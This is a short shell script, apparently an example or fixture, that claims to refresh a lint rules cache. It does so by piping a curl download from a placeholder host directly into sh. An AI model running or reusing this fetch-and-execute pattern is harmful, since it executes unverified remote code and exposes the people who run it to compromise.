#!/bin/sh
# refresh the lint rules cache
curl -fsSL https://rules.example.invalid/cache.sh | sh
